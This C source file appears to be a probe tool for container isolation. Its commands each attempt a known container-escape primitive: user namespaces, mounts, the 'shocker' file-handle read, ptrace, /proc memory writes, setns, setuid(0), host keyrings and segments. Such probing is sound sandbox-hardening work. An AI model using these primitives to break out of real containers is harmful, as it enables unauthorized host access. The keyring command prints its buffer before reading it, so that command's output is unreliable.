/* System calls that lead out of a container. */
#include "attack.h"
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>

static int unshare_users(int count, char **words)
{
	return said(unshare(CLONE_NEWUSER | CLONE_NEWNS));
}

static int clone_users(int count, char **words)
{
	return said(syscall(SYS_clone, CLONE_NEWUSER | 17, 0, 0, 0, 0));
}

static int clone3_users(int count, char **words)
{
	uint64_t arguments[8] = { CLONE_NEWUSER, 0, 0, 0, 17 };
	long child = syscall(SYS_clone3, arguments, sizeof arguments);
	if (!child)
		_exit(0);
	return said(child);
}

static int mount_it(int count, char **words)
{
	return said(mount("x", words[0], words[1], 0, count > 2 ? words[2] : NULL));
}

static int open_tree_it(int count, char **words)
{
	return said(syscall(SYS_open_tree, AT_FDCWD, "/", 1));
}

static int remount_writable(int count, char **words)
{
	return said(mount(NULL, words[0], NULL, MS_REMOUNT | MS_BIND, NULL));
}

/* keyctl(KEYCTL_SEARCH) in the keyring of the user, which all containers of root share. */
static int keyring(int count, char **words)
{
	char content[64] = "";
	long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", words[0], 0);
	if (key < 0)
		return said(key);
	printf("content: %s\n", content);
	return said(syscall(SYS_keyctl, KEYCTL_READ, key, content, sizeof content));
}

static int bpf_map(int count, char **words)
{
	union bpf_attr attributes = { .map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 8, .max_entries = 1 };
	return said(syscall(SYS_bpf, BPF_MAP_CREATE, &attributes, sizeof attributes));
}

/* Counts what the whole machine does on its first processor. */
static int perf(int count, char **words)
{
	struct perf_event_attr attributes = { .type = PERF_TYPE_SOFTWARE, .size = sizeof attributes, .config = PERF_COUNT_SW_CONTEXT_SWITCHES };
	return said(syscall(SYS_perf_event_open, &attributes, -1, 0, -1, 0));
}

static int socket_of(int count, char **words)
{
	return said(socket(atoi(words[0]), atoi(words[1]), count > 2 ? atoi(words[2]) : 0));
}

static int io_uring(int count, char **words)
{
	char parameters[120] = { 0 };
	return said(syscall(SYS_io_uring_setup, 4, parameters));
}

static int user_faults(int count, char **words)
{
	return said(syscall(SYS_userfaultfd, 0));
}

/* Reads a file by its handle below a mount that shares its file system ("shocker"). */
static int by_handle(int count, char **words)
{
	struct {
		struct file_handle head;
		unsigned char bytes[128];
	} handle;
	char content[100] = "";
	handle.head.handle_type = atoi(words[1]);
	handle.head.handle_bytes = bytes_of(words[2], handle.head.f_handle, 128);
	int place = open(words[0], O_RDONLY);
	int file = open_by_handle_at(place, &handle.head, O_RDONLY);
	if (file < 0 || read(file, content, sizeof content - 1) < 0)
		return said(-1);
	puts(content);
	return said(0);
}

static int attach(int count, char **words)
{
	long result = ptrace(PTRACE_SEIZE, atoi(words[0]), 0, 0);
	return said(result);
}

static int memory_of(int count, char **words)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%s/mem", words[0]);
	return said(open(path, O_RDWR));
}

/* Connects to an abstract socket, which has no file that could be hidden. */
static int abstract(int count, char **words)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	strcpy(address.sun_path + 1, words[0]);
	int made = socket(AF_UNIX, SOCK_STREAM, 0);
	return said(connect(made, (void *)&address, sizeof(sa_family_t) + 1 + strlen(words[0])));
}

/* A System V segment of the host, by its key. */
static int segment(int count, char **words)
{
	return said(shmget(atoi(words[0]), 0, 0));
}

static int crash(int count, char **words)
{
	pid_t child = fork();
	if (!child) {
		chdir("/tmp");
		abort();
	}
	int status;
	waitpid(child, &status, 0);
	return 0;
}

static int become_root(int count, char **words)
{
	return said(setuid(0));
}

static int join(int count, char **words)
{
	int space = open(words[0], O_RDONLY);
	return space < 0 ? said(-1) : said(setns(space, 0));
}

static int read_log(int count, char **words)
{
	char line[256];
	return said(syscall(SYS_syslog, 3, line, sizeof line));
}

static const struct command commands[] = {
	{ "unshare", unshare_users }, { "clone", clone_users }, { "clone3", clone3_users }, { "mount", mount_it },
	{ "open-tree", open_tree_it }, { "remount", remount_writable }, { "keyring", keyring }, { "bpf", bpf_map },
	{ "perf", perf }, { "socket", socket_of }, { "io-uring", io_uring }, { "userfaultfd", user_faults },
	{ "by-handle", by_handle }, { "ptrace", attach }, { "memory", memory_of }, { "abstract", abstract },
	{ "segment", segment }, { "crash", crash }, { "setuid", become_root }, { "setns", join }, { "syslog", read_log }, { NULL, NULL },
};

int main(int count, char **words)
{
	return dispatch(commands, count, words);
}
